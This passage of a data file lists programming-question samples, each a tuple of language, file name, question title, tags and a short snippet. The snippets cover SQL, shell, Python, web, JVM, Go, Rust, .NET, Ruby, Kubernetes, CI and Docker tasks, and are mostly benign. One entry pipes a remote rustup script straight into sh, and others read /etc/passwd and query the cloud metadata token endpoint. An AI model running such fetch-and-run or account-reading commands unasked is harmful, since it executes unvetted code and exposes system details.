           seat_no - ROW_NUMBER() OVER (PARTITION BY row_label ORDER BY seat_no) AS grp
    FROM seats
    WHERE event_id = 812 AND booking_id IS NULL
) s
GROUP BY row_label, grp
HAVING count(*) >= 3
ORDER BY row_label, first_seat;
'''),
    ("bash", "bash", "pg_backup.sh", "Backup script deletes too many old directories", "bash cron postgresql", r'''
#!/usr/bin/env bash
set -euo pipefail
BACKUP_DIR="/var/backups/postgres/$(date +%F)"
mkdir -p "$BACKUP_DIR"
pg_dump -Fc -h localhost -U backup shop > "$BACKUP_DIR/shop.dump"
find /var/backups/postgres -mindepth 1 -maxdepth 1 -type d -mtime +14 -exec rm -rf {} +
echo "done: $(du -sh "$BACKUP_DIR" | cut -f1)"
'''),
    ("bash", "bash", "resize.sh", "Loop over JPEGs with spaces in their names", "bash imagemagick", r'''
shopt -s nullglob
for f in ./photos/*.jpg; do
  base=$(basename "$f" .jpg)
  convert "$f" -resize '1600x1600>' "./out/${base}_web.jpg" && echo "ok $base" || echo "failed $base" >&2
done
'''),
    ("bash", "bash", "todo_count.sh", "Count TODOs per file and show the worst offenders", "bash grep awk", r'''
grep -rn --include='*.py' "TODO" src/ \
  | awk -F: '{print $1}' \
  | sort | uniq -c | sort -rn | head -20
'''),
    ("bash", "bash", "install_rust.sh", "rustup install in a Dockerfile RUN line: cargo not found afterwards", "rust docker rustup", r'''
curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal
source "$HOME/.cargo/env"
rustup component add clippy rustfmt
cargo --version
'''),
    ("bash", "bash", "tunnel.sh", "Close an SSH tunnel automatically when the script exits", "bash ssh trap", r'''
ssh -N -L 5433:db.internal:5432 deploy@bastion.example.net &
TUNNEL_PID=$!
trap 'kill $TUNNEL_PID' EXIT
sleep 2
psql "host=localhost port=5433 dbname=shop user=readonly" -c 'select count(*) from orders;'
'''),
    ("bash", "bash", "docker_cleanup.sh", "Reclaiming disk space from old Docker images on a build box", "docker disk-space", r'''
docker ps -a --filter "status=exited" -q | xargs -r docker rm
docker image prune -af --filter "until=168h"
docker builder prune -f --keep-storage 20GB
docker system df
'''),
    ("bash", "bash", "human_users.sh", "List real (non-system) users and their login shells", "linux users awk", r'''
# list human users (uid >= 1000) and their shells
awk -F: '$3 >= 1000 && $3 < 65534 {print $1, $7}' /etc/passwd
# and who is allowed to sudo
getent group sudo | cut -d: -f4 | tr ',' '\n'
'''),
    ("bash", "bash", "fix_links.sh", "sed with a URL in the pattern: unknown option to s", "sed git", r'''
git ls-files '*.md' | xargs sed -i 's#http://old-docs.example.com#https://docs.example.com#g'
git diff --stat
git commit -am "docs: move links to new domain"
'''),
    ("bash", "bash", "stock_update.sh", "Reading a CSV line by line and calling an API for each row", "bash curl csv", r'''
while IFS=, read -r sku qty; do
  [[ "$sku" == "sku" ]] && continue   # header
  curl -s -X PATCH "https://api.shop.example/v1/stock/$sku" \
       -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' \
       -d "{\"quantity\": $qty}"
done < stock.csv
'''),
    ("bash", "bash", "restart_app.sh", "Gunicorn restarts fine but journalctl shows nothing", "systemd journalctl gunicorn", r'''
sudo systemctl daemon-reload
sudo systemctl restart gunicorn.service && sudo systemctl status gunicorn --no-pager
journalctl -u gunicorn --since "1 hour ago" | grep -i error | tail -n 50
'''),
    ("bash", "bash", "imds.sh", "Getting the instance id with IMDSv2 from a shell script", "aws ec2 bash", r'''
TOKEN=$(curl -sX PUT "http://169.254.169.254/latest/api/token" \
  -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")
INSTANCE_ID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" \
  http://169.254.169.254/latest/meta-data/instance-id)
echo "running on $INSTANCE_ID"
'''),
    ("bash", "bash", "release.sh", "Tagging a release only when the working tree is clean", "git bash release", r'''
if [[ -n "$(git status --porcelain)" ]]; then
  echo "working tree is dirty, refusing to tag" >&2
  exit 1
fi
version=$(grep -m1 '^version' Cargo.toml | cut -d'"' -f2)
git tag -a "v${version}" -m "Release ${version}"
git push origin "v${version}"
'''),
    ("powershell", "powershell", "cleanup-logs.ps1", "Remove-Item -WhatIf shows nothing for old log files", "powershell", r'''
Get-ChildItem -Path C:\Logs -Filter *.log -Recurse |
    Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |
    Remove-Item -WhatIf
'''),
    ("powershell", "powershell", "restart-iis.ps1", "Restarting IIS on several servers with Invoke-Command", "powershell iis remoting", r'''
$cred = Get-Credential
Invoke-Command -ComputerName web01, web02 -Credential $cred -ScriptBlock {
    Restart-Service -Name W3SVC -Force
    Get-Service W3SVC | Select-Object Name, Status
}
'''),
    ("powershell", "powershell", "stale-users.ps1", "Export AD users who have not logged in for 90 days", "powershell active-directory", r'''
Import-Module ActiveDirectory
$cutoff = (Get-Date).AddDays(-90)
Get-ADUser -Filter 'Enabled -eq $true -and LastLogonDate -lt $cutoff' -Properties LastLogonDate, Department |
    Sort-Object LastLogonDate |
    Export-Csv -Path .\stale-users.csv -NoTypeInformation -Encoding UTF8
'''),
    ("powershell", "powershell", "open-invoices.ps1", "Formatting columns from Invoke-RestMethod output", "powershell rest", r'''
$headers = @{ Authorization = "Bearer $env:API_TOKEN"; Accept = 'application/json' }
$resp = Invoke-RestMethod -Uri 'https://api.example.com/v2/invoices?status=open&limit=100' -Headers $headers -Method Get
$resp.data | ForEach-Object { "{0,-12} {1,10:N2}" -f $_.number, $_.amount }
'''),
    ("powershell", "powershell", "agent-settings.ps1", "Set-ItemProperty on HKCU fails with path not found", "powershell registry", r'''
Set-ExecutionPolicy -Scope CurrentUser -ExecutionPolicy RemoteSigned
New-Item -Path 'HKCU:\Software\Contoso\Agent' -Force | Out-Null
Set-ItemProperty -Path 'HKCU:\Software\Contoso\Agent' -Name 'LogLevel' -Value 'Debug'
Get-ItemProperty -Path 'HKCU:\Software\Contoso\Agent'
'''),
    ("python", "python", "git_branch.py", "subprocess.run returns the branch name with a trailing newline", "python subprocess", r'''
import subprocess


def git_branch(path: str) -> str:
    result = subprocess.run(
        ["git", "rev-parse", "--abbrev-ref", "HEAD"],
        cwd=path, capture_output=True, text=True, check=True,
    )
    return result.stdout.strip()
'''),
    ("python", "python", "books.py", "LIKE with a parameter in sqlite3: where do the % signs go?", "python sqlite", r'''
import sqlite3

conn = sqlite3.connect("library.db")
cur = conn.cursor()
title = input("Title: ")
# never build this with f-strings; let the driver quote it
cur.execute("SELECT id, title, author FROM books WHERE title LIKE ?", (f"%{title}%",))
for row in cur.fetchall():
    print(row)
'''),
    ("python", "python", "app.py", "Flask: 405 Method Not Allowed on DELETE", "python flask rest", r'''
from flask import Flask, request, jsonify, abort

app = Flask(__name__)
ITEMS = {1: {"id": 1, "name": "kettle"}}


@app.route("/api/items/<int:item_id>", methods=["GET", "DELETE"])
def item(item_id):
    obj = ITEMS.get(item_id) or abort(404)
    if request.method == "DELETE":
        del ITEMS[item_id]
        return "", 204
    return jsonify(obj)
'''),
    ("python", "python", "monthly.py", "pandas: monthly totals per region as a wide table", "python pandas", r'''
import pandas as pd

df = pd.read_csv("sales_2025.csv", parse_dates=["order_date"])
monthly = (df[df["status"] != "refunded"]
           .groupby([df["order_date"].dt.to_period("M"), "region"])["amount"]
           .sum()
           .unstack(fill_value=0))
print(monthly.round(2).to_markdown())
'''),
    ("python", "python", "fetch_all.py", "asyncio.gather with return_exceptions hides my timeouts", "python asyncio aiohttp", r'''
import asyncio
import aiohttp


async def fetch_all(urls):
    async with aiohttp.ClientSession() as session:
        async def one(u):
            async with session.get(u, timeout=aiohttp.ClientTimeout(total=10)) as r:
                return u, r.status
        return await asyncio.gather(*(one(u) for u in urls), return_exceptions=True)

print(asyncio.run(fetch_all(["https://example.org", "https://example.com/missing"])))
'''),
    ("python", "python", "reports.py", "Raw SQL in Django with a date parameter", "django python sql", r'''
from django.db import connection


def top_customers(since, limit=10):
    with connection.cursor() as c:
        c.execute(
            "SELECT customer_id, SUM(total) FROM shop_order "
            "WHERE created >= %s GROUP BY customer_id ORDER BY 2 DESC LIMIT %s",
            [since, limit],
        )
        return c.fetchall()
'''),
    ("python", "python", "big_logs.py", "Find log files over 50 MB anywhere under a folder", "python pathlib", r'''
from pathlib import Path

root = Path("~/projects").expanduser()
for p in sorted(root.rglob("*.log")):
    size = p.stat().st_size
    if size > 50 * 1024 * 1024:
        print(f"{p.relative_to(root)}\t{size // 2**20} MiB")
'''),
    ("python", "python", "greeting.py", "Jinja2 filter inside an if block renders nothing", "python jinja2 templates", r'''
from jinja2 import Environment, select_autoescape

env = Environment(autoescape=select_autoescape())
tpl = env.from_string(
    "Hello {{ user.name | title }}, you have {{ items | length }} items"
    "{% if overdue %} (overdue!){% endif %}"
)
print(tpl.render(user={"name": "ada"}, items=[1, 2], overdue=True))
'''),
    ("python", "python", "parse_access_log.py", "Regex for the combined log format misses some lines", "python regex logs", r'''
import re

LOG_RE = re.compile(
    r'^(?P<ip>\S+) \S+ \S+ \[(?P<ts>[^\]]+)\] "(?P<method>[A-Z]+) (?P<path>\S+) HTTP/[\d.]+" '
    r'(?P<status>\d{3}) (?P<size>\d+|-)'
)

with open("access.log") as fh:
    hits = [m.groupdict() for line in fh if (m := LOG_RE.match(line))]
print(sum(1 for h in hits if h["status"].startswith("5")), "server errors")
'''),
    ("python", "python", "ldap_lookup.py", "ldap3 search filter with OR inside AND", "python ldap active-directory", r'''
from ldap3 import Server, Connection, SUBTREE

conn = Connection(Server("ldaps://ldap.corp.example.com"),
                  "cn=reader,dc=corp,dc=example,dc=com", password, auto_bind=True)
conn.search("ou=people,dc=corp,dc=example,dc=com",
            "(&(objectClass=inetOrgPerson)(|(mail=*@corp.example.com)(departmentNumber=42)))",
            SUBTREE, attributes=["cn", "mail"])
for e in conn.entries:
    print(e.cn, e.mail)
'''),
    ("python", "python", "retry.py", "Decorator for retrying with exponential backoff", "python decorators", r'''
import functools
import random
import time


def retry(times=5, base=0.5, exceptions=(ConnectionError, TimeoutError)):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*args, **kwargs):
            for attempt in range(times):
                try:
                    return fn(*args, **kwargs)
                except exceptions:
                    if attempt == times - 1:
                        raise
                    time.sleep(base * 2 ** attempt + random.random() / 10)
        return inner
    return wrap
'''),
    ("javascript", "javascript", "draft.js", "fetch PUT with CSRF token from a meta tag", "javascript fetch csrf", r'''
async function saveDraft(postId, body) {
  const token = document.querySelector('meta[name="csrf-token"]').content;
  const res = await fetch(`/api/posts/${postId}/draft`, {
    method: 'PUT',
    headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': token },
    body: JSON.stringify({ body, savedAt: new Date().toISOString() }),
  });
  if (!res.ok) throw new Error(`save failed: ${res.status}`);
  return res.json();
}
'''),
    ("javascript", "javascript", "cookies.js", "Reading one cookie value without a library", "javascript cookies", r'''
function getCookie(name) {
  return document.cookie
    .split('; ')
    .find(row => row.startsWith(name + '='))
    ?.split('=')[1];
}
console.log(decodeURIComponent(getCookie('theme') ?? 'light'));
'''),
    ("javascript", "javascript", "orders.js", "MongoDB find with $gte and $in returns nothing from Express", "node.js mongodb express", r'''
app.get('/api/orders', async (req, res) => {
  const since = new Date(req.query.since ?? Date.now() - 7 * 864e5);
  const orders = await db.collection('orders')
    .find({ createdAt: { $gte: since }, status: { $in: ['paid', 'shipped'] } })
    .sort({ createdAt: -1 })
    .limit(100)
    .toArray();
  res.json(orders);
});
'''),
    ("tsx", "tsx", "Picker.tsx", "Filtering a list while typing re-renders the whole page", "reactjs typescript", r'''
type Props = { items: { id: string; label: string }[]; onPick: (id: string) => void };

export function Picker({ items, onPick }: Props) {
  const [query, setQuery] = useState('');
  const shown = items.filter(i => i.label.toLowerCase().includes(query.toLowerCase()));
  return (
    <div className="picker">
      <input value={query} onChange={e => setQuery(e.target.value)} placeholder="Filter…" />
      <ul>{shown.map(i => <li key={i.id} onClick={() => onPick(i.id)}>{i.label}</li>)}</ul>
    </div>
  );
}
'''),
    ("ts", "typescript", "groupBy.ts", "Typing a generic groupBy so the keys are inferred", "typescript generics", r'''
export function groupBy<T, K extends PropertyKey>(xs: readonly T[], key: (x: T) => K): Record<K, T[]> {
  return xs.reduce((acc, x) => {
    (acc[key(x)] ||= []).push(x);
    return acc;
  }, {} as Record<K, T[]>);
}

const byCountry = groupBy(users, u => u.country); // Record<string, User[]>
'''),
    ("javascript", "javascript", "duration.js", "execFile vs exec for calling ffprobe from Node", "node.js child-process ffmpeg", r'''
const { execFile } = require('node:child_process');

execFile('ffprobe', ['-v', 'error', '-show_entries', 'format=duration', '-of', 'csv=p=0', file], (err, stdout) => {
  if (err) return console.error('ffprobe failed', err);
  console.log(`duration: ${parseFloat(stdout).toFixed(1)}s`);
});
'''),
    ("html", "html", "counter.html", "Alpine.js counter does nothing when the script tag is in the head", "html alpine.js", r'''
<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Counter</title>
  <script src="https://cdn.jsdelivr.net/npm/alpinejs@3.14.1/dist/cdn.min.js" defer></script>
</head>
<body>
  <div x-data="{ count: 0 }">
    <button @click="count++">+1</button>
    <span x-text="count"></span>
  </div>
  <script>
    document.addEventListener('alpine:init', () => console.log('ready'));
  </script>
</body>
</html>
'''),
    ("javascript", "javascript", "slugify.js", "Slugify that strips accents (é → e) correctly", "javascript regex unicode", r'''
const slugify = s => s
  .normalize('NFKD').replace(/[\u0300-\u036f]/g, '')
  .toLowerCase()
  .replace(/[^a-z0-9]+/g, '-')
  .replace(/^-+|-+$/g, '');

slugify("Crème Brûlée: l'essentiel"); // "creme-brulee-l-essentiel"
'''),
    ("javascript", "javascript", "results.js", "Rendering user-supplied titles safely in a list", "javascript dom security", r'''
const list = document.getElementById('results');
for (const r of results) {
  const li = document.createElement('li');
  li.textContent = r.title;          // not innerHTML: titles come from users
  li.dataset.id = r.id;
  list.appendChild(li);
}
window.addEventListener('hashchange', () => highlight(location.hash.slice(1)));
'''),
    ("javascript", "javascript", "aggregate.js", "Mongo aggregation: top 5 customers by spend last month", "mongodb aggregation-framework", r'''
db.orders.aggregate([
  { $match: { status: { $ne: "cancelled" }, createdAt: { $gte: ISODate("2026-11-01") } } },
  { $group: { _id: "$customerId", spent: { $sum: "$total" }, n: { $sum: 1 } } },
  { $sort: { spent: -1 } },
  { $limit: 5 }
])
'''),
    ("javascript", "javascript", "debounce.js", "Debounce a search box so it doesn't fire on every keystroke", "javascript debounce", r'''
function debounce(fn, ms = 250) {
  let t;
  return (...args) => {
    clearTimeout(t);
    t = setTimeout(() => fn.apply(this, args), ms);
  };
}

searchInput.addEventListener('input', debounce(e => {
  fetch(`/api/search?q=${encodeURIComponent(e.target.value)}`).then(r => r.json()).then(render);
}, 300));
'''),
    ("php", "php", "products.php", "PDO prepared statement with an optional max price", "php pdo mysql", r'''
<?php
$pdo = new PDO('mysql:host=localhost;dbname=shop;charset=utf8mb4', $user, $pass, [
    PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION,
]);
$stmt = $pdo->prepare('SELECT id, name, price FROM products WHERE category_id = :cat AND price <= :max');
$stmt->execute(['cat' => (int) $_GET['cat'], 'max' => (float) ($_GET['max'] ?? 100)]);
foreach ($stmt as $row) {
    echo htmlspecialchars($row['name'], ENT_QUOTES, 'UTF-8'), "\n";
}
'''),
    ("php", "php", "routes/api.php", "Laravel route constraint for numeric ids", "php laravel routing", r'''
Route::middleware('auth:sanctum')->group(function () {
    Route::get('/invoices/{invoice}', [InvoiceController::class, 'show'])->whereNumber('invoice');
    Route::post('/invoices/{invoice}/pay', [InvoiceController::class, 'pay']);
});
'''),
    ("php", "php", "functions.php", "WordPress: prepend a 'last reviewed' line to single posts", "php wordpress filters", r'''
add_filter( 'the_content', function ( $content ) {
    if ( ! is_single() ) {
        return $content;
    }
    $note = '<p class="updated-note">' . esc_html__( 'Last reviewed:', 'mytheme' ) . ' '
          . esc_html( get_the_modified_date() ) . '</p>';
    return $note . $content;
} );
'''),
    ("php", "php", "bootstrap.php", "require_once with __DIR__ and a relative path", "php composer dotenv", r'''
<?php
declare(strict_types=1);

require_once __DIR__ . '/../vendor/autoload.php';
$config = include __DIR__ . '/../config/app.php';
$dotenv = Dotenv\Dotenv::createImmutable(dirname(__DIR__));
$dotenv->safeLoad();
'''),
    ("php", "php", "subscribe.php", "Reading a JSON body in plain PHP without a framework", "php json", r'''
<?php
$raw = file_get_contents('php://input');
$data = json_decode($raw, true, 512, JSON_THROW_ON_ERROR);
$email = filter_var($data['email'] ?? '', FILTER_VALIDATE_EMAIL);
if ($email === false) {
    http_response_code(422);
    exit(json_encode(['error' => 'invalid email']));
}
'''),
    ("java", "java", "CustomerController.java", "Spring: return 404 when findById is empty", "java spring-boot", r'''
@RestController
@RequestMapping("/api/customers")
public class CustomerController {
    private final CustomerRepository repo;

    public CustomerController(CustomerRepository repo) { this.repo = repo; }

    @GetMapping("/{id}")
    public ResponseEntity<Customer> get(@PathVariable long id) {
        return repo.findById(id).map(ResponseEntity::ok).orElse(ResponseEntity.notFound().build());
    }
}
'''),
    ("java", "java", "StaleUsers.java", "PreparedStatement with a timestamp 90 days ago", "java jdbc", r'''
String sql = "SELECT id, email FROM users WHERE last_login < ? AND status = ?";
try (Connection c = ds.getConnection(); PreparedStatement ps = c.prepareStatement(sql)) {
    ps.setTimestamp(1, Timestamp.from(Instant.now().minus(90, ChronoUnit.DAYS)));
    ps.setString(2, "active");
    try (ResultSet rs = ps.executeQuery()) {
        while (rs.next()) System.out.println(rs.getLong("id") + " " + rs.getString("email"));
    }
}
'''),
    ("java", "java", "SafeXml.java", "Is this DocumentBuilderFactory setup enough to stop entity expansion?", "java xml security", r'''
DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
dbf.setFeature("http://xml.org/sax/features/external-general-entities", false);
dbf.setXIncludeAware(false);
dbf.setExpandEntityReferences(false);
Document doc = dbf.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
'''),
    ("java", "java", "PdfText.java", "ProcessBuilder hangs when pdftotext writes a lot", "java processbuilder", r'''
ProcessBuilder pb = new ProcessBuilder("pdftotext", "-layout", input.toString(), "-");
pb.redirectErrorStream(true);
Process p = pb.start();
String text = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
if (p.waitFor() != 0) {
    throw new IOException("pdftotext exited with " + p.exitValue());
}
'''),
    ("xml", "xml", "log4j2.xml", "log4j2 RollingFile: ${sys:app.home} is empty at startup", "java log4j2", r'''
<Configuration status="WARN">
  <Appenders>
    <RollingFile name="app" fileName="${sys:app.home}/logs/app.log"
                 filePattern="${sys:app.home}/logs/app-%d{yyyy-MM-dd}.log.gz">
      <PatternLayout pattern="%d{ISO8601} %-5level [%t] %logger{36} - %msg%n"/>
      <TimeBasedTriggeringPolicy/>
    </RollingFile>
  </Appenders>
  <Loggers>
    <Root level="info"><AppenderRef ref="app"/></Root>
  </Loggers>
</Configuration>
'''),
    ("go", "go", "users.go", "Go 1.22 PathValue returns empty string", "go net-http", r'''
func (s *Server) handleGetUser(w http.ResponseWriter, r *http.Request) {
    id, err := strconv.ParseInt(r.PathValue("id"), 10, 64)
    if err != nil {
        http.Error(w, "bad id", http.StatusBadRequest)
        return
    }
    u, err := s.store.User(r.Context(), id)
    if errors.Is(err, sql.ErrNoRows) {
        http.NotFound(w, r)
        return
    }
    w.Header().Set("Content-Type", "application/json")
    _ = json.NewEncoder(w).Encode(u)
}
'''),
    ("go", "go", "probe.go", "Checking many hosts concurrently with a WaitGroup", "go concurrency", r'''
var wg sync.WaitGroup
results := make(chan string, len(hosts))
for _, h := range hosts {
    wg.Add(1)
    go func(h string) {
        defer wg.Done()
        conn, err := net.DialTimeout("tcp", h+":443", 3*time.Second)
        if err != nil {
            results <- fmt.Sprintf("%s: %v", h, err)
            return
        }
        conn.Close()
        results <- h + ": ok"
    }(h)
}
wg.Wait()
close(results)
'''),
    ("go", "go", "gitlog.go", "exec.CommandContext output is empty on error", "go os-exec", r'''
out, err := exec.CommandContext(ctx, "git", "log", "--oneline", "-n", "20").CombinedOutput()
if err != nil {
    log.Fatalf("git log: %v\n%s", err, out)
}
fmt.Print(string(out))
'''),
    ("go", "go", "event.go", "Struct tags for both JSON and sqlx", "go struct-tags sqlx", r'''
type Event struct {
    ID        string            `json:"id" db:"id"`
    Kind      string            `json:"kind" db:"kind" validate:"oneof=created updated deleted"`
    Payload   json.RawMessage   `json:"payload" db:"payload"`
    CreatedAt time.Time         `json:"created_at" db:"created_at"`
    Labels    map[string]string `json:"labels,omitempty" db:"-"`
}
'''),
    ("rust", "rust", "wordcount.rs", "Sorting a HashMap by value then key", "rust hashmap sorting", r'''
use std::collections::HashMap;
use std::fs;

fn word_counts(path: &str) -> std::io::Result<Vec<(String, usize)>> {
    let text = fs::read_to_string(path)?;
    let mut counts: HashMap<String, usize> = HashMap::new();
    for w in text.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()) {
        *counts.entry(w.to_lowercase()).or_default() += 1;
    }
    let mut v: Vec<_> = counts.into_iter().collect();
    v.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    Ok(v)
}
'''),
    ("rust", "rust", "orders.rs", "sqlx query_as with a LIMIT bind parameter", "rust sqlx postgresql", r'''
let rows = sqlx::query_as::<_, Order>(
    "SELECT id, customer_id, total_cents, created_at FROM orders \
     WHERE customer_id = $1 ORDER BY created_at DESC LIMIT $2",
)
.bind(customer_id)
.bind(limit as i64)
.fetch_all(&pool)
.await?;
'''),
    ("rust", "rust", "parser.rs", "Returning a &str borrowed from the input, not from self", "rust lifetimes", r'''
struct Parser<'a> {
    input: &'a str,
    pos: usize,
}

impl<'a> Parser<'a> {
    fn next_token(&mut self) -> Option<&'a str> {
        let rest = &self.input[self.pos..];
        let start = rest.find(|c: char| !c.is_whitespace())?;
        let len = rest[start..].find(char::is_whitespace).unwrap_or(rest.len() - start);
        self.pos += start + len;
        Some(&rest[start..start + len])
    }
}
'''),
    ("rust", "rust", "build.rs", "Running make from a build script", "rust cargo build-script", r'''
let status = std::process::Command::new("make")
    .arg(format!("-j{}", std::thread::available_parallelism()?.get()))
    .arg("install")
    .current_dir(&build_dir)
    .status()?;
assert!(status.success(), "build failed: {status}");
'''),
    ("toml", "toml", "Cargo.toml", "Release profile settings for a small CLI binary", "rust cargo", r'''
[package]
name = "ledger-cli"
version = "0.3.1"
edition = "2021"

[dependencies]
clap = { version = "4", features = ["derive"] }
serde = { version = "1", features = ["derive"] }
tokio = { version = "1", features = ["rt-multi-thread", "macros"] }

[profile.release]
lto = true
codegen-units = 1
strip = true
'''),
    ("csharp", "csharp", "ProductsController.cs", "EF Core LIKE search with paging", "c# entity-framework-core", r'''
public async Task<IActionResult> Search(string q, int page = 1)
{
    var results = await _db.Products
        .Where(p => EF.Functions.Like(p.Name, $"%{q}%"))
        .OrderBy(p => p.Name)
        .Skip((page - 1) * 20).Take(20)
        .ToListAsync();
    return View(results);
}
'''),
    ("csharp", "csharp", "AdLookup.cs", "DirectorySearcher filter for one sAMAccountName", "c# active-directory ldap", r'''
using var entry = new DirectoryEntry("LDAP://dc01.corp.example.com/DC=corp,DC=example,DC=com");
using var searcher = new DirectorySearcher(entry)
{
    Filter = "(&(objectClass=user)(objectCategory=person)(sAMAccountName=" + EscapeLdap(login) + "))",
};
searcher.PropertiesToLoad.AddRange(new[] { "displayName", "mail", "memberOf" });
var result = searcher.FindOne();
'''),
    ("csharp", "csharp", "Summary.cs", "GroupBy on two keys with LINQ", "c# linq", r'''
var summary = orders
    .GroupBy(o => new { o.Customer.Country, Year = o.PlacedAt.Year })
    .Select(g => new { g.Key.Country, g.Key.Year, Total = g.Sum(o => o.Total), Count = g.Count() })
    .OrderByDescending(x => x.Total)
    .ToList();
'''),
    ("cshtml", "razor", "Index.cshtml", "Razor foreach renders an empty table", "asp.net-core razor", r'''
@model IEnumerable<Order>
<table class="table">
    @foreach (var o in Model)
    {
        <tr>
            <td>@o.Number</td>
            <td>@o.PlacedAt.ToString("yyyy-MM-dd")</td>
            <td><a asp-action="Details" asp-route-id="@o.Id">Details</a></td>
        </tr>
    }
</table>
'''),
    ("ruby", "ruby", "order.rb", "Rails scope with a time window and ordering", "ruby-on-rails activerecord", r'''
class Order < ApplicationRecord
  belongs_to :customer
  has_many :line_items, dependent: :destroy

  scope :recent, -> { where("created_at > ?", 30.days.ago).order(created_at: :desc) }

  def total
    line_items.sum { |li| li.quantity * li.unit_price }
  end
end
'''),
    ("erb", "erb", "index.html.erb", "strip_tags then truncate in an ERB view", "ruby-on-rails erb", r'''
<% @posts.each do |post| %>
  <article id="post-<%= post.id %>">
    <h2><%= link_to post.title, post %></h2>
    <p><%= truncate(strip_tags(post.body), length: 180) %></p>
  </article>
<% end %>
'''),
    ("ruby", "ruby", "deploy.rake", "Backticks in a rake task: output has a newline", "ruby rake", r'''
namespace :deploy do
  desc "Print the current revision"
  task :revision do
    rev = `git rev-parse --short HEAD`.strip
    puts "Deploying #{rev} to #{ENV.fetch('STAGE', 'staging')}"
  end
end
'''),
    ("ruby", "ruby", "dedupe.rb", "One-liner to dedupe a list of e-mail addresses", "ruby", r'''
File.readlines("emails.txt", chomp: true)
    .map { |e| e.strip.downcase }
    .reject(&:empty?)
    .uniq.sort
    .each { |e| puts e }
'''),
    ("yaml", "yaml", "deployment.yaml", "Readiness probe fails although /healthz returns 200", "kubernetes", r'''
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  labels: { app: web }
spec:
  replicas: 3
  selector:
    matchLabels: { app: web }
  template:
    metadata:
      labels: { app: web }
    spec:
      containers:
        - name: web
          image: registry.example.com/shop/web:1.14.2
          ports: [{ containerPort: 8080 }]
          env:
            - name: DATABASE_URL
              valueFrom: { secretKeyRef: { name: web-db, key: url } }
          readinessProbe:
            httpGet: { path: /healthz, port: 8080 }
            initialDelaySeconds: 5
'''),
    ("yaml", "yaml", ".github/workflows/ci.yml", "GitHub Actions matrix: secret is empty in pull requests from forks", "github-actions ci", r'''
name: ci
on:
  push: { branches: [main] }
  pull_request:
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix: { python: ["3.11", "3.12"] }
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with: { python-version: "${{ matrix.python }}" }
      - run: pip install -r requirements.txt && pytest -q
        env:
          DATABASE_URL: ${{ secrets.TEST_DATABASE_URL }}
'''),
    ("yaml", "yaml", "templates/configmap.yaml", "Helm range over a map produces wrong indentation", "kubernetes-helm go-templates", r'''
apiVersion: v1
kind: ConfigMap
metadata:
  name: {{ include "shop.fullname" . }}-config
data:
  LOG_LEVEL: {{ .Values.logLevel | default "info" | quote }}
  {{- range $key, $value := .Values.extraEnv }}
  {{ $key }}: {{ $value | quote }}
  {{- end }}
'''),
    ("yaml", "yaml", "docker-compose.yml", "Compose: app starts before Postgres is ready", "docker-compose postgresql", r'''
services:
  db:
    image: postgres:16
    environment:
      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:-devpassword}
    volumes:
      - ./data/pg:/var/lib/postgresql/data
    healthcheck:
      test: ["CMD-SHELL", "pg_isready -U postgres"]
  app:
    build: .
    depends_on:
      db: { condition: service_healthy }
    ports: ["8000:8000"]
    command: sh -c "python manage.py migrate && gunicorn app.wsgi -b 0.0.0.0:8000"
'''),
    ("yaml", "yaml", ".gitlab-ci.yml", "rsync deploy job runs on every branch, not just main", "gitlab-ci", r'''
stages: [build, deploy]

build:
  stage: build
  image: node:20
  script:
    - npm ci
    - npm run build
  artifacts:
    paths: [dist/]

deploy:
  stage: deploy
  script:
    - rsync -az --delete dist/ deploy@$STAGING_HOST:/var/www/site/
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
'''),
    ("yaml", "yaml", "harden.yml", "Ansible lineinfile with a regexp that never matches", "ansible ssh", r'''
- name: harden sshd
  hosts: web
  become: true
  tasks:
    - name: disable password login
      ansible.builtin.lineinfile:
        path: /etc/ssh/sshd_config
        regexp: '^#?PasswordAuthentication'
        line: 'PasswordAuthentication no'
      notify: restart sshd
  handlers:
    - name: restart sshd
      ansible.builtin.service: { name: sshd, state: restarted }
'''),
    ("dockerfile", "docker", "Dockerfile", "Slim Python image: libpq missing at runtime", "docker python", r'''
FROM python:3.12-slim AS base
ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1
WORKDIR /app
RUN apt-get update && apt-get install -y --no-install-recommends libpq5 \
    && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
USER 1000:1000
CMD ["gunicorn", "app.wsgi:application", "--bind", "0.0.0.0:8000", "--workers", "3"]
'''),
    ("dockerfile", "docker", "Dockerfile.api", "Distroless image: exec format error", "docker go distroless", r'''
FROM golang:1.23 AS build
WORKDIR /src
COPY go.mod go.sum ./
RUN go mod download
COPY . .
RUN CGO_ENABLED=0 GOOS=linux go build -trimpath -ldflags="-s -w" -o /out/api ./cmd/api

FROM gcr.io/distroless/static-debian12
COPY --from=build /out/api /api
USER nonroot:nonroot
ENTRYPOINT ["/api"]
'''),
    ("dockerfile", "docker", "Dockerfile.node", "HEALTHCHECK with curl on Alpine", "docker node.js healthcheck", r'''
FROM node:20-alpine
RUN apk add --no-cache curl tini
WORKDIR /usr/src/app
COPY package*.json ./
RUN npm ci --omit=dev
COPY . .
HEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS http://localhost:3000/health || exit 1
ENTRYPOINT ["/sbin/tini", "--"]
CMD ["node", "server.js"]
'''),
